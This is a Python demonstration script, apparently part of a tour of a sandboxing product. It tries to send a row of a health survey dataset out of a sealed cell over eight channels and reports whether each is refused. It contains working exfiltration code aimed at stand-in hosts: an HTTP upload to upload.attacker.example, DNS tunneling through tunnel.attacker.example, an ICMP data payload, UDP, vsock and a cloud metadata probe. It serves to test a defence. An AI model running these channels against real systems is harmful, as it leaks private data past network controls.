# SPDX-License-Identifier: Apache-2.0
"""The tour's attack: code in a sealed cell tries to send the survey out in eight ways, and prints what came of each."""

import json
import socket
import urllib.request

import cloister

secret = cloister.dataset("health_survey").head(1).to_pandas().to_csv(index=False).encode()
results = []


def attempt(way, target, action):
    """Runs one way out; `sent` when it did not end in an error."""
    try:
        action()
        outcome, detail = "sent", ""
    except Exception as error:
        outcome, detail = "refused", f"{type(error).__name__}: {error}"
    results.append({"way": way, "target": target, "outcome": outcome, "detail": detail[:160]})


def over_tcp(family, address):
    """Connects and sends."""
    with socket.socket(family, socket.SOCK_STREAM) as out:
        out.settimeout(3)
        out.connect(address)
        out.sendall(secret)


def over_udp(address):
    """Sends one datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(secret[:400], address)


def over_raw():
    """Sends an ICMP echo that carries data."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
        out.sendto(b"\x08\x00" + secret[:40], ("203.0.113.80", 0))


def over_vsock():
    """Talks to the host of a virtual machine."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as out:
        out.settimeout(3)
        out.connect((2, 5000))
        out.sendall(secret)


def in_a_name():
    """Hides data in a question to the name service; any answer means that the question was asked outside."""
    name = secret.hex()[:40] + ".tunnel.attacker.example"
    address = socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0]
    over_tcp(socket.AF_INET, (address, 443))


attempt("TCP to an address", "203.0.113.80:443", lambda: over_tcp(socket.AF_INET, ("203.0.113.80", 443)))
attempt("TCP over IPv6", "[2001:db8::80]:443", lambda: over_tcp(socket.AF_INET6, ("2001:db8::80", 443)))
attempt(
    "HTTP upload by name",
    "upload.attacker.example",
    lambda: urllib.request.urlopen("http://upload.attacker.example/", data=secret, timeout=3),
)
attempt("data in a name-service question", "tunnel.attacker.example", in_a_name)
attempt("UDP datagram", "203.0.113.80:53", lambda: over_udp(("203.0.113.80", 53)))
attempt("ICMP echo by raw socket", "203.0.113.80", over_raw)
attempt("cloud metadata service", "169.254.169.254:80", lambda: over_tcp(socket.AF_INET, ("169.254.169.254", 80)))
attempt("virtual machine socket", "vsock 2:5000", over_vsock)

# And a dataset that was not granted to this cell.
try:
    cloister.dataset("short_sleepers").to_pandas()
    ungranted = "opened"
except cloister.Denied as denied:
    ungranted = f"denied: {denied}"

print(json.dumps({"ways": results, "ungranted": ungranted}))
